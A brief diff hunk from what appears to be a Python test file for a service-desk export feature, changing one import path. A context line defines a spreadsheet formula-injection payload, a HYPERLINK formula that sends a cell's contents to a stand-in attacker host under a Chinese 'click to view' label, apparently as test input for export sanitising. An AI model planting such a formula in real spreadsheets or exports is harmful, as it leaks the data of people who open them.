@@ -13,7 +13,7 @@ from openpyxl import load_workbook
 import linli
 from linli.core import exports
 from linli.core.tenancy import Actor
-from linli.operations.services.access import visitor_register
+from linli.operations.services.gates import visitor_register
 from tests.servicedesk.helpers import backdate, file
 
 EVIL = '=HYPERLINK("http://evil.example/?d="&B2,"点击查看")'
